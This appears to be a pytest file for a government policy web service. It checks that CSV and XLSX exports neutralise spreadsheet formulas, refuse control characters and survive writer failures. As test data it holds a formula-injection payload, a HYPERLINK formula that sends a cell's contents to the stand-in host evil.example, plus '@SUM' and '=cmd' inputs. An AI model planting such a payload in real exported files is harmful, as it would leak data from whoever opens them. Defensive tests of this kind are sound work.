"""Issue 24 point 3: one rule for every exported cell (CSV, XLSX, HTML), control characters
refused at the schema, and a failing export that holds nothing."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from models import OrganizationKind, Role
from service import throttle
from service.app import create_app
from service.db import get_engine, session_scope
from service.export_cells import csv_cell
from service.reports import exporters as report_exporters
from service.settings import settings
from service.transfer import writers
from service.transfer.columns import FileFormat
from tests.factories import PASSWORD, auth_headers, make_organization, make_user
from tests.service.lists.test_measures import MEASURE
from tests.service.reports.helpers import COUNTY, YEAR

LIST = f"/api/v1/regions/{COUNTY}/lists/policy-support"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_the_cell_rule() -> None:
    assert csv_cell("=1+2") == "'=1+2"
    assert csv_cell("\t=cmd") == "'\t=cmd"
    assert csv_cell("a\x0bb\x00c\r\nd") == "abc\nd"
    assert csv_cell(-5) == -5


def test_transfer_writer_survives_a_vertical_tab_and_keeps_formulas_text() -> None:
    out = io.BytesIO()
    writers.write_table(out, FileFormat.xlsx, ["a", "b"], [["岗位\x0b描述", "=SUM(A1)"]])
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["A2"].value == "岗位描述"
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=SUM(A1)", "s")


def test_the_public_policy_list_neutralises_formulas(client: TestClient, session: Session) -> None:
    chongqing = make_organization(session, OrganizationKind.government, region_code="500000")
    headers = auth_headers(make_user(session, Role.regulator, chongqing))
    measure = {**MEASURE, "title": FORMULA, "eligible": "@SUM(1)"}
    assert client.post("/api/v1/policy-measures", json=measure, headers=headers).status_code == 201
    as_csv = client.get(LIST, params={"year": YEAR, "format": "csv"})
    cells = [c for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
    assert "'@SUM(1)" in cells
    as_xlsx = client.get(LIST, params={"year": YEAR, "format": "xlsx"})
    book = load_workbook(io.BytesIO(as_xlsx.content))
    found = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.value == FORMULA]
    assert found
    assert all(cell.data_type == "s" for cell in found)


def test_control_characters_are_refused_at_the_schema(client: TestClient, session: Session) -> None:
    chongqing = make_organization(session, OrganizationKind.government, region_code="500000")
    headers = auth_headers(make_user(session, Role.regulator, chongqing))
    measure = {**MEASURE, "key": "vt-measure", "title": "补助\x0b标题"}
    response = client.post("/api/v1/policy-measures", json=measure, headers=headers)
    assert response.status_code == 422
    detail = response.json()["error"]["details"][0]
    assert detail["field"] == "title"
    assert "控制字符" in detail["message"]


@pytest.fixture
def app_on(fresh_db_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setattr(settings, "database_url", fresh_db_url)
    monkeypatch.setattr(settings, "sqlite_write_wait_s", 2.0)
    throttle.use_store(throttle.MemoryStore())
    with TestClient(create_app(), raise_server_exceptions=False) as client:
        yield client
    get_engine(fresh_db_url).dispose()


XLSX_EXPORTS = (
    "/api/v1/exports/organizations?format=xlsx",
    "/api/v1/reports/mismatch?region=500000&year=2026&format=xlsx",
    "/api/v1/regions/500000/lists/talent-demand?year=2026&format=xlsx",
    "/api/v1/regions/500000/adjustments?year=2026&format=xlsx",
)


def test_a_failing_export_holds_nothing(
    app_on: TestClient, fresh_db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every XLSX export (transfer, report, list, adjustment filing) fails in its writer three
    times; signing in still works at once (issue 24: after two failures every login was 503)."""
    with session_scope(fresh_db_url) as session:
        make_user(session, Role.admin, username="export-admin")
    token = app_on.post(
        "/api/v1/auth/token", data={"username": "export-admin", "password": PASSWORD}
    ).json()["access_token"]
    headers = {"Authorization": f"Bearer {token}"}
    for url in XLSX_EXPORTS:  # each export works before its writer is broken
        assert app_on.get(url, headers=headers).status_code == 200, url

    def broken(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("writer failed")

    monkeypatch.setattr("openpyxl.workbook.workbook.Workbook.save", broken)
    for url in XLSX_EXPORTS:
        for _ in range(3):
            assert app_on.get(url, headers=headers).status_code == 500, url
        login = app_on.post(
            "/api/v1/auth/token", data={"username": "export-admin", "password": PASSWORD}
        )
        assert login.status_code == 200, (url, login.text)


def test_every_export_writer_cleans_its_cells() -> None:
    """The mismatch report's printable HTML is a template: its output passes the cell rule too."""
    assert report_exporters._templates().from_string("{{ v }}").render(v="印刷\x0b媒体<技术>") == (
        "印刷媒体&lt;技术&gt;"
    )


def test_http_details(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 24 point 9: HSTS in production only; /docs allows no CDN."""
    assert "strict-transport-security" not in client.get("/healthz").headers
    monkeypatch.setattr(settings, "environment", "production")
    hsts = client.get("/healthz").headers["strict-transport-security"]
    assert hsts.startswith("max-age=31536000")
    monkeypatch.setattr(settings, "environment", "test")
    policy = client.get("/docs").headers["content-security-policy"]
    assert "https:" not in policy
    assert "cdn" not in policy
